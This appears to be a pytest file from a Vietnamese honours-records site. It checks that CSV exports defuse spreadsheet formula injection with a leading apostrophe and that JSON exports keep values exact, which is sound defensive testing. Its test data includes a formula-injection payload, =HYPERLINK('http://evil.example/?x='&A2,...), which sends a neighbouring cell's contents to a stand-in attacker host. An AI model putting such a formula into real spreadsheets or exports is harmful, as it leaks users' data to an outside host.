"""Open-data exports: no cell of a published spreadsheet opens as a formula (issue 8, point 6).

The check refuses such names; the CSV writer neutralises what still arrives
with a leading apostrophe, as OWASP advises. JSON stays exact.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from pathlib import Path

import pytest

from bangvang.core.honours import export, reader
from bangvang.core.honours.model import Decision, HonourEntry, Issuer
from conftest import REPO, Site

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm")'
FORMULA_STARTS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1+1"]


def _decision(title: str, names: list[str]) -> Decision:
    entries = tuple(
        HonourEntry(stt, "gia_dinh", name, None, None, name, "Xã Thiên Lộc", None, "Tỉnh Hà Tĩnh", stt)
        for stt, name in enumerate(names, start=1)
    )
    return Decision(
        "honours/a.yaml", "honours/a.yaml", "a", "-1/QĐ", (), dt.date(2024, 1, 2), Issuer(HYPERLINK, "tinh"),
        "cong_nhan", "2024", title, (), None, False, entries,
    )  # fmt: skip


def _not_settled(decision: Decision, entry: HonourEntry) -> export.Current:
    return export.NOT_SETTLED


def _records(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_cells_that_would_open_as_a_formula_start_with_an_apostrophe(tmp_path: Path, start: str) -> None:
    decision = _decision(start, [start, "Gia đình ông An"])
    path = tmp_path / "a.csv"
    assert export.write_csv(path, ((decision, e) for e in decision.entries), _not_settled) == 2
    first, second = _records(path)
    assert first["name"] == first["village"] == first["title"] == "'" + start
    assert first["decision"] == "'-1/QĐ"
    assert second["name"] == "Gia đình ông An" and second["title"] == "'" + start
    assert first["stt"] == "1" and first["anchor"] == "a-stt-1" and first["commune"] == "Xã Thiên Lộc"


def test_json_exports_stay_exact(tmp_path: Path) -> None:
    decision = _decision(HYPERLINK, FORMULA_STARTS)

    def current(decision: Decision, entry: HonourEntry) -> export.Current:
        return (f'Xã "{entry.stt}"\\', str(entry.stt), None, "42") if entry.stt % 2 else export.NOT_SETTLED

    export.write_rows_json(tmp_path / "rows.json", ((decision, e) for e in decision.entries), current)
    export.write_decision_json(tmp_path / "a.json", decision, "https://example.org/a/", current)
    rows = json.loads((tmp_path / "rows.json").read_text(encoding="utf-8"))
    document = json.loads((tmp_path / "a.json").read_text(encoding="utf-8"))
    # The province files' records (written a piece at a time) are the decision files' records, keys in column order.
    assert rows == document["entries"] and all(list(row) == list(export.EXPORT_COLUMNS) for row in rows)
    assert rows[0]["current_commune"] == 'Xã "1"\\' and rows[1]["current_commune_code"] is None
    assert [r["name"] for r in rows] == [e["name"] for e in document["entries"]] == FORMULA_STARTS
    assert document["title"] == rows[0]["title"] == HYPERLINK and document["issuer"]["name"] == HYPERLINK
    assert document["number"] == "-1/QĐ"


def test_published_spreadsheets_hold_no_formula(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    row = "1,gia_dinh,Gia đình ông An,,,Thôn 1,Xã Thiên Lộc,Huyện Can Lộc,Tỉnh Hà Tĩnh"
    site.decision("a", [row], number="5/QĐ-UBND", title=HYPERLINK, issuer={"name": HYPERLINK, "level": "huyen_xa"})
    # The check is the first line of defence: it refuses the formula outright.
    check = site.check("--strict")
    assert check.code == 1 and "công thức" in check.output, check.output
    # The exports are the second: were the check ever to miss one, no cell may open as a formula.
    findings = reader.text_findings
    monkeypatch.setattr(
        reader,
        "text_findings",
        lambda *args, **kwargs: [f for f in findings(*args, **kwargs) if "công thức" not in f[1]],
    )
    run = site.build()
    assert run.code == 0, run.output
    data = site.out / "vinh-danh/du-lieu"
    for path in (data / "a.csv", data / "tinh/tinh-ha-tinh.csv"):
        (record,) = _records(path)
        assert record["title"] == "'" + HYPERLINK, path
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in record.values())
    document = json.loads((data / "a.json").read_text(encoding="utf-8"))
    assert document["title"] == document["entries"][0]["title"] == document["issuer"]["name"] == HYPERLINK
    (province_row,) = json.loads((data / "tinh/tinh-ha-tinh.json").read_text(encoding="utf-8"))
    assert province_row["title"] == HYPERLINK


def test_every_export_column_is_explained_for_editors() -> None:
    readme = (REPO / "honours/README.md").read_text(encoding="utf-8")
    section = readme.split("## 10. Dữ liệu mở", 1)[1].split("\n## ", 1)[0]
    explained = set(re.findall(r"`([a-z_]+)`", section.split("| Cột | Nghĩa |", 1)[1].split("\n\n", 1)[0]))
    assert set(export.EXPORT_COLUMNS) <= explained, set(export.EXPORT_COLUMNS) - explained
    assert export.EXPORT_COLUMNS[-1] == "anchor"  # the manifest reads it as a row's last cell
